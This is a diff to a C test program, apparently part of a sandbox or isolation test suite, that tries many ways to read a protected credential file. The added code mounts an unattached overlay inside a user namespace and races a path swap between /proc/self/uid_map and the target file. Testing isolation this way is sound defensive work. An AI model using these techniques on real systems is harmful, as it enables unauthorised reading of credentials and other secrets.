@@ -1,11 +1,13 @@
 /*
  * Reads a credential file, by every way to get at its bytes.
- * usage: file_read METHOD FILE SCRATCH-DIRECTORY
+ * usage: file_read METHOD FILE SCRATCH-DIRECTORY [TRIES]
  * The bytes are printed; the runner knows what stands in the file.
  */
 #include "attack.h"
 
 #include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
 #include <sys/mman.h>
 #include <sys/stat.h>
 
@@ -21,9 +23,65 @@ static void show(int fd, const char *how) {
     reached("%s", how);
 }
 
+/* An overlay that is mounted nowhere: its files have inodes and names of their own. */
+static void overlay(const char *file, const char *scratch) {
+    char empty[4096], lower[8192];
+    const char *base = strrchr(file, '/');
+    snprintf(empty, sizeof empty, "%s/empty", scratch);
+    snprintf(lower, sizeof lower, "%.*s:%s", (int)(base - file), file, empty);
+    mkdir(empty, 0755);
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
+        cannot("a user namespace: %s", strerror(errno));
+    int context = (int)syscall(430 /* fsopen */, "overlay", 0);
+    if (context < 0)
+        errno == ENODEV || errno == ENOSYS ? cannot("no overlay: %s", strerror(errno)) : stopped_at("fsopen");
+    if (syscall(431 /* fsconfig */, context, 1, "lowerdir", lower, 0) != 0 || syscall(431, context, 6 /* create */, NULL, NULL, 0) != 0)
+        stopped_at("fsconfig");
+    int mount = (int)syscall(432 /* fsmount */, context, 0, 0);
+    if (mount < 0)
+        stopped_at("fsmount");
+    show(openat(mount, base + 1, O_RDONLY), "overlay");
+}
+
+/* What the kernel has to open for a process of a user namespace, and the path exchanged meanwhile. */
+static volatile char swapped[4096];
+static volatile int rounds; /* a busy machine may not let the other thread run for a while */
+static const char *paths[2] = {"/proc/self/uid_map"};
+static void *swap(void *unused) {
+    for (;; rounds++) {
+        const char *path = paths[rounds % 2];
+        for (size_t at = 0; at <= strlen(path); at++)
+            swapped[at] = path[at];
+        for (volatile int pause = 0; pause < 200; pause++)
+            ;
+    }
+    return unused;
+}
+static void race_map(const char *file, int tries) {
+    pthread_t thread;
+    char text[256];
+    paths[1] = file;
+    strcpy((char *)swapped, file);
+    if (unshare(CLONE_NEWUSER) != 0)
+        cannot("a user namespace: %s", strerror(errno));
+    if (pthread_create(&thread, NULL, swap, NULL) != 0)
+        cannot("no thread");
+    for (int i = 0; i < tries || (rounds < tries && i < 50 * tries); i++) {
+        int fd = open((const char *)swapped, O_RDONLY);
+        ssize_t n = fd >= 0 ? read(fd, text, sizeof text) : 0;
+        close(fd);
+        if (n > 10 && memcmp(text, "credential", 10) == 0) {
+            if (write(1, text, (size_t)n) != n)
+                stopped_at("write");
+            reached("in try %d", i);
+        }
+    }
+    stopped("%d tries", tries);
+}
+
 int main(int argc, char **argv) {
-    if (argc != 4)
-        cannot("usage: file_read METHOD FILE SCRATCH-DIRECTORY");
+    if (argc < 4)
+        cannot("usage: file_read METHOD FILE SCRATCH-DIRECTORY [TRIES]");
     const char *m = argv[1], *file = argv[2];
     char other[4096];
     snprintf(other, sizeof other, "%s/alias", argv[3]);
@@ -74,5 +132,9 @@ int main(int argc, char **argv) {
         execve(file, none, none);
         stopped_at("execve");
     }
+    if (strcmp(m, "overlay") == 0)
+        overlay(file, argv[3]);
+    if (strcmp(m, "race-map") == 0 && argc == 5)
+        race_map(file, atoi(argv[4]));
     cannot("unknown method %s", m);
 }
